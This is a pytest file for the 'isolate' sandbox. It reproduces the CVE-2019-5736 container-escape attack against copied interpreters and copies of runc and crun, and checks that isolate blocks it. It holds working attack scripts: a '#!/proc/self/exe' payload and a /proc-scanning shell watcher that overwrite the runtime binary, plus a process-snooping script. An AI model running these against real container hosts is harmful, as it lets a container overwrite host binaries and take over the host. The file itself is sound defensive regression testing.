"""Escape 1 of issue 12: reaching the runtime's binary (CVE-2019-5736 class) or command line.

The process that makes a sandbox's first ``execve`` used to be a clone of the
caller, so ``/proc/self/exe`` of that process was the host's Python: a program
whose first line is ``#!/proc/self/exe`` ran the host interpreter inside the
sandbox, with a handle on the host file to write once the runtime exited; and
a process entering a running container showed the caller's command line
there before its ``execve``.  Every spawn now executes the sealed child
program (csrc/init.c) before any op: that is what ``#!/proc/self/exe``
reaches, and what a process already in the container sees.

Every attack here is run for real against a *copy* of Debian's python3.11,
which plays the host's interpreter (the caller runs as that copy): the test
checks the copy was neither run inside nor written.  runc, crun and bwrap get
the same attack where they can (see the comparison table at the end).
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

import isolate
from support import base_config, compare, make_busybox_rootfs

pytestmark = [pytest.mark.root]

DEBIAN_PY = "/usr/bin/python3.11"
SITE = str(Path(isolate.__file__).resolve().parent.parent)

#: The program every sandbox below is asked to run: a script whose interpreter is
#: whatever /proc/self/exe is in the process that execs it.  Run as Python (the host
#: interpreter), it says so, keeps a handle on that binary, lets go of its text
#: (exec sleep), and overwrites the binary through the handle once nothing runs it.
EVIL = textwrap.dedent('''\
    #!/proc/self/exe
    import os, sys
    report = sys.argv[1] if len(sys.argv) > 1 else "/report/out"
    with open(report, "a") as f:
        f.write("HOST-BINARY-RAN " + os.readlink("/proc/self/exe") + "\\n")
    fd = os.open("/proc/self/exe", os.O_RDONLY)
    os.set_inheritable(fd, True)
    if os.fork() == 0:
        # Another program holds the handle: nothing of the host binary runs any more
        # once this process has exec'd sleep and the runtime has exited.
        os.execv("/bin/sh", ["sh", "-c", WRITER % (fd, report)])
    os.execv("/bin/sleep", ["sleep", "10"])
    ''').replace("WRITER", repr(
        "i=0; while [ $i -lt 600 ]; do "
        "if (printf PWNED 1<>/proc/self/fd/%d) 2>/dev/null; then echo OVERWRITTEN >> %s; exit 0; fi; "
        "i=$((i+1)); sleep 0.01; done"))


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


class Attack:
    """The scene: a copied interpreter, the evil script and a report directory."""

    def __init__(self, tmp: Path) -> None:
        if not os.path.exists(DEBIAN_PY):
            pytest.fail(f"{DEBIAN_PY} is needed as the copied host interpreter (Debian's python3.11)")
        self.tmp = tmp
        self.host_py = tmp / "host-bin" / "python3"
        self.host_py.parent.mkdir()
        shutil.copy2(DEBIAN_PY, self.host_py)
        self.digest = sha(self.host_py)
        self.attack = tmp / "attack"
        self.attack.mkdir()
        (self.attack / "evil.sh").write_text(EVIL)
        os.chmod(self.attack / "evil.sh", 0o755)
        self.report = tmp / "report"
        self.report.mkdir()
        os.chmod(self.report, 0o777)

    def caller(self, code: str, *args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
        """Run ``code`` with the copied interpreter as the caller (importing this isolate).

        Its output goes to files, not pipes: a container it leaves running (``run
        --detach``) holds them, and reading a pipe to its end would wait for that."""
        env = {**os.environ, "PYTHONPATH": SITE}
        with open(self.tmp / "caller.out", "w+") as out, open(self.tmp / "caller.err", "w+") as err:
            r = subprocess.run([str(self.host_py), "-c", code, *args], stdin=subprocess.DEVNULL,
                               stdout=out, stderr=err, env=env, timeout=timeout)
            out.seek(0)
            err.seek(0)
            return subprocess.CompletedProcess(r.args, r.returncode, out.read(), err.read())

    def findings(self) -> str:
        out = self.report / "out"
        return out.read_text() if out.exists() else ""

    def assert_stopped(self, result: subprocess.CompletedProcess[str] | None = None) -> None:
        found = self.findings()
        assert "HOST-BINARY-RAN" not in found, (found, result)
        assert sha(self.host_py) == self.digest, "the host interpreter was overwritten"


@pytest.fixture
def attack(tmp_path: Path) -> Attack:
    return Attack(tmp_path)


def _container_code(how: str) -> str:
    return textwrap.dedent(f'''\
        import sys, isolate
        rootfs = isolate.RootFS.host().bind(sys.argv[1], "/attack", readonly=True)
        rootfs.bind(sys.argv[2], "/report")
        with isolate.Container(rootfs=rootfs) as c:
            if {how!r} == "run":
                r = c.run(["/attack/evil.sh"], timeout=60)
            else:
                c.start(["sleep", "60"])
                r = c.exec(["/attack/evil.sh"], timeout=60)
        print(r.returncode, r.stderr.decode().strip())
        ''')


@pytest.mark.parametrize("how", ["run", "exec"])
def test_container_proc_self_exe_script_reaches_only_the_sealed_child_program(attack: Attack,
                                                                              how: str) -> None:
    """Tried: a ``#!/proc/self/exe`` program as ``Container.run``'s command, and through
    ``Container.exec`` into a running container.
    Stopped by: the exec is made by the child program, so the kernel runs that sealed
    memfd as the interpreter, which refuses to run: the host interpreter never runs inside."""
    r = attack.caller(_container_code(how), str(attack.attack), str(attack.report))
    assert r.returncode == 0, r.stderr
    code, _, err = r.stdout.strip().partition(" ")
    assert code == "2" and err.startswith("isolate-child: run by isolate's spawn only"), r.stdout
    attack.assert_stopped(r)


def test_spawn_with_namespaces_proc_self_exe_script(attack: Attack) -> None:
    """Tried: the same with ``isolate.spawn`` (new pid, mount and user namespaces, the
    host's files).  Stopped by: the same sealed child program."""
    code = textwrap.dedent('''\
        import sys, isolate
        r = isolate.run([sys.argv[1] + "/evil.sh", sys.argv[2] + "/out"],
                        namespaces={"pid", "mnt", "user"}, capture_output=True, timeout=60)
        print(r.returncode, r.stderr.decode().strip())
        ''')
    r = attack.caller(code, str(attack.attack), str(attack.report))
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("2 isolate-child: run by isolate's spawn only"), r.stdout
    attack.assert_stopped(r)


def test_isolate_run_proc_self_exe_script(attack: Attack) -> None:
    """Tried: ``isolate run -- /attack/evil.sh`` (the CLI, run by the copied interpreter).
    Stopped by: the sealed child program is the interpreter the kernel finds."""
    code = "import sys; from isolate.cli.__main__ import main; sys.argv[0] = 'isolate'; sys.exit(main())"
    r = attack.caller(code, "run", "--bind", f"{attack.attack}:/attack:ro", "--bind",
                      f"{attack.report}:/report", "--", "/attack/evil.sh")
    assert r.returncode == 2, (r.stdout, r.stderr)
    assert "isolate-child: run by isolate's spawn only" in r.stderr
    attack.assert_stopped(r)


# --- the OCI runtime: the runtime exits while the container runs on -------------------------------


def _bundle(tmp: Path, attack: Attack, args: list[str], cgroup_parent: str) -> Path:
    bundle = tmp / "bundle"
    rootfs = make_busybox_rootfs(bundle / "rootfs")
    for d in ("usr", "attack", "report", "lib", "lib64"):
        (rootfs / d).mkdir(exist_ok=True)
    config = base_config(args, cgroups_path=f"/{cgroup_parent}/evil")
    config["ociVersion"] = "1.0.2"      # what runc 1.1 and crun 1.8 accept
    binds = [("/usr", "/usr", "ro"), ("/lib", "/lib", "ro"), ("/lib64", "/lib64", "ro"),
             (str(attack.attack), "/attack", "ro"), (str(attack.report), "/report", "rw")]
    for src, dst, mode in binds:
        config["mounts"].append({"destination": dst, "type": "bind", "source": src,
                                 "options": ["rbind", mode]})
    (bundle / "config.json").write_text(json.dumps(config))
    return bundle


def _oci(attack: Attack, *args: str) -> subprocess.CompletedProcess[str]:
    code = "import sys; from isolate.cli.oci import main; sys.argv[0] = 'isolate-oci'; sys.exit(main())"
    return attack.caller(code, *args)


def _wait_for_writer(attack: Attack) -> None:
    """Give the attack's writer time to overwrite the binary once the runtime is gone."""
    deadline = time.monotonic() + 8
    while time.monotonic() < deadline:
        found = attack.findings()
        if "OVERWRITTEN" in found or ("HOST-BINARY-RAN" not in found and time.monotonic() > deadline - 6):
            return
        time.sleep(0.1)


@pytest.mark.parametrize("verb", ["run", "exec"])
def test_oci_runtime_binary_cannot_be_overwritten(attack: Attack, tmp_path: Path, verb: str,
                                                  oci_cgroup_parent: str) -> None:
    """Tried (the CVE itself): ``isolate-oci run --detach`` of a container whose command is a
    ``#!/proc/self/exe`` program, and ``isolate-oci exec --detach`` of it into a running one;
    the program, if it is the runtime's interpreter, keeps a handle on it, lets go of its
    text, and writes through the handle once the runtime has exited.
    Stopped by: the runtime's interpreter never runs inside (the sealed child program does)."""
    args = ["/attack/evil.sh"] if verb == "run" else ["sleep", "60"]
    bundle = _bundle(tmp_path, attack, args, oci_cgroup_parent)
    root = tmp_path / "state"
    cid = f"evil-{os.getpid()}"
    try:
        r = _oci(attack, "--root", str(root), "run", "--detach", "--bundle",
                 str(bundle), cid)
        assert r.returncode == 0, r.stderr
        if verb == "exec":
            r = _oci(attack, "--root", str(root), "exec", "--detach", cid,
                     "/attack/evil.sh")
            assert r.returncode == 0, r.stderr
        _wait_for_writer(attack)
    finally:
        # Not with the copy: where the attack works, it is no longer a program.
        subprocess.run([sys.executable, "-m", "isolate.cli.oci", "--root", str(root), "delete",
                        "--force", cid], capture_output=True, timeout=60)
    attack.assert_stopped()


# --- a process entering a running container ------------------------------------------------------

WATCHER = textwrap.dedent('''\
    import json, os, sys, time
    print("ready", flush=True)
    seen = {}
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and not os.path.exists("/report/done"):
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or pid in ("1", str(os.getpid())) or pid in seen:
                continue
            info = {}
            try:
                info["cmdline"] = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace")
            except OSError as e:
                info["cmdline"] = f"errno {e.errno}"
            for what in ("exe", "cwd", "root"):
                try:
                    info[what] = os.readlink(f"/proc/{pid}/{what}")
                except OSError as e:
                    info[what] = f"errno {e.errno}"
            try:
                open(f"/proc/{pid}/environ", "rb").read()
                info["environ"] = "read"
            except OSError as e:
                info["environ"] = f"errno {e.errno}"
            for what in ("map_files", "fd"):
                try:
                    info[what] = [os.readlink(f"/proc/{pid}/{what}/{n}")
                                  for n in os.listdir(f"/proc/{pid}/{what}")]
                except OSError as e:
                    info[what] = f"errno {e.errno}"
            if info["cmdline"] or not info["exe"].startswith("errno 2"):
                seen[pid] = info
        time.sleep(0.001)
    with open("/report/watch", "w") as f:
        json.dump(seen, f)
    ''')

JOINER = textwrap.dedent('''\
    import os, sys, time, isolate
    secret = sys.argv[2]
    rootfs = isolate.RootFS.host().bind(sys.argv[1], "/report")
    with isolate.Container(rootfs=rootfs) as c:
        c.start(["/usr/bin/python3", "-c", sys.argv[3]], stdout=isolate.PIPE)
        assert c.process.stdout.readline() == b"ready\\n"
        joined = [isolate.Namespace.of(c.pid, t) for t in sorted(c.namespaces)]
        r, w = os.pipe()
        p = isolate.spawn(["/bin/true"], join=joined, exec_gate=r, cgroup=c.cgroup)
        time.sleep(1.5)                 # held before its execve: the watcher looks at it
        os.write(w, b"go")
        p.wait()
        open(sys.argv[1] + "/done", "w").close()
        c.wait(30)
    print(secret)
    ''')


def test_a_process_entering_a_running_container_shows_nothing_of_the_caller(tmp_path: Path,
                                                                            attack: Attack) -> None:
    """Tried: from inside a running container, watch every process that enters it (held
    before its execve, as an exec's process is while it sets up) and read its
    /proc/<pid>/cmdline (the caller was started with a secret argument), exe, cwd,
    root, environ, map_files and fd.
    Stopped by: what enters is a fork of the child program (Fork): its cmdline is the
    child program's, and it is not dumpable, so exe, cwd, root, environ, map_files and
    fd are refused."""
    secret = f"SECRET-{os.getpid()}-{time.monotonic_ns()}"
    r = attack.caller(JOINER, str(attack.report), secret, WATCHER)
    assert r.returncode == 0, r.stderr
    assert r.stdout.strip() == secret
    seen = json.loads((attack.report / "watch").read_text())
    assert seen, "the watcher saw no process enter"
    for pid, info in seen.items():
        assert secret not in info["cmdline"], info
        assert info["cmdline"].startswith("isolate-child\0") or info["cmdline"].startswith("/bin/true"), info
        assert str(attack.host_py) not in json.dumps(info), info
        if info["cmdline"].startswith("isolate-child"):
            for what in ("exe", "cwd", "root", "environ", "map_files", "fd"):
                assert info[what] == "errno 13", (what, info)


# --- the same attack against runc and crun: a watcher already inside ---------------------------

WATCH = textwrap.dedent('''\
    # pid 1 of the container: wait for a process whose exe is the runtime's binary
    # (dev:inode $1), keep a handle on it, and overwrite it once nothing runs it.
    echo ready > /report/ready
    end=$(( $(date +%s) + 15 ))
    while [ "$(date +%s)" -lt "$end" ]; do
      for p in /proc/[0-9]*; do
        pid=${p#/proc/}
        if [ "$pid" = 1 ] || [ "$pid" = "$$" ]; then continue; fi
        id=$(stat -L -c %d:%i "$p/exe" 2>/dev/null) || continue
        [ "$id" = "$1" ] || continue
        exec 3< "$p/exe" || continue
        echo "REACHED $pid $(tr "\\0" " " < "$p/cmdline")" >> /report/out
        i=0
        while [ $i -lt 600 ]; do
          if (printf PWNED 1<>/proc/self/fd/3) 2>/dev/null; then echo OVERWRITTEN >> /report/out; exit 0; fi
          i=$((i+1)); sleep 0.01
        done
        exit 0
      done
    done
    ''')


def _runtime_copy(tmp: Path, tool: str) -> list[str] | None:
    """A command running a copy of ``tool`` (crun under a cgroup2 view on hybrid hosts), or None."""
    path = shutil.which(tool)
    if path is None:
        return None
    copy = tmp / "host-bin" / tool
    shutil.copy2(path, copy)
    if tool == "crun":
        from isolate.cgroup import detect

        if detect().kind == "hybrid":   # crun 1.8 refuses hybrid hosts: see benchmarks/cases.crun_view
            return ["unshare", "--mount", "--propagation", "private", "sh", "-c",
                    'mount -t cgroup2 cgroup2 /sys/fs/cgroup && exec "$0" "$@"', str(copy),
                    "--cgroup-manager=disabled"]
    return [str(copy)]


@pytest.mark.parametrize("tool", ["isolate-oci", "runc", "crun"])
def test_a_process_inside_cannot_reach_the_runtime_binary_through_an_exec(
        attack: Attack, tmp_path: Path, tool: str, oci_cgroup_parent: str,
        request: pytest.FixtureRequest) -> None:
    """Tried (the original CVE-2019-5736 exploit's shape): a process already in the container
    waits for a process whose /proc/<pid>/exe is the runtime's binary, while the runtime
    execs a ``#!/proc/self/exe`` program into it; then holds it and overwrites it once the
    runtime is gone.  Each runtime is a copy.
    Stopped by (isolate): the process that enters is the sealed child program, not dumpable
    until its execve, and the interpreter ``#!/proc/self/exe`` finds is that memfd."""
    (attack.attack / "watch.sh").write_text(WATCH)
    (attack.attack / "evil.sh").write_text("#!/proc/self/exe\nimport time\ntime.sleep(2)\n")
    if tool == "isolate-oci":
        runtime = None
        target = attack.host_py
    else:
        runtime = _runtime_copy(tmp_path, tool)
        if runtime is None:
            pytest.fail(f"{tool} is not installed (.ci/install-deps installs it)")
        target = tmp_path / "host-bin" / tool
    digest = sha(target)
    st = os.stat(target)
    ident = f"{st.st_dev}:{st.st_ino}"
    bundle = _bundle(tmp_path, attack, ["sh", "/attack/watch.sh", ident], oci_cgroup_parent)
    root = tmp_path / "state"
    cid = f"watch-{os.getpid()}"

    def call(*args: str) -> subprocess.CompletedProcess[str]:
        if runtime is None:
            return _oci(attack, "--root", str(root), *args)
        with open(tmp_path / "rt.err", "w+") as err:
            r = subprocess.run([*runtime, "--root", str(root), *args], stdin=subprocess.DEVNULL,
                               stdout=subprocess.DEVNULL, stderr=err, timeout=60)
            err.seek(0)
            return subprocess.CompletedProcess(r.args, r.returncode, "", err.read())

    try:
        r = call("run", "--detach", "--bundle", str(bundle), cid)
        assert r.returncode == 0, r.stderr
        for _ in range(500):
            if (attack.report / "ready").exists():
                break
            time.sleep(0.01)
        r = call("exec", "--detach", cid, "/attack/evil.sh")
        assert r.returncode == 0, r.stderr
        deadline = time.monotonic() + 8
        while time.monotonic() < deadline and "OVERWRITTEN" not in attack.findings():
            time.sleep(0.1)
    finally:
        original = [sys.executable, "-m", "isolate.cli.oci"] if runtime is None else \
            [*runtime[:-2], shutil.which(tool) or tool, runtime[-1]] if tool == "crun" and len(runtime) > 1 \
            else [shutil.which(tool) or tool]
        subprocess.run([*original, "--root", str(root), "delete", "--force", cid],
                       capture_output=True, timeout=60)
    found = attack.findings()
    # The attack's aim is the binary itself: stopped if it is unchanged.  Reaching it (a
    # handle on a read-only mount of it, say) is noted; isolate must not even allow that.
    stopped = sha(target) == digest
    reached = "REACHED" in found
    compare(request, "runtime binary overwritten from inside (CVE-2019-5736)",
            "isolate" if runtime is None else tool, stopped,
            "reached, not writable" if reached and stopped else ("overwritten" if not stopped else ""))
    if runtime is None:
        assert stopped and not reached, found
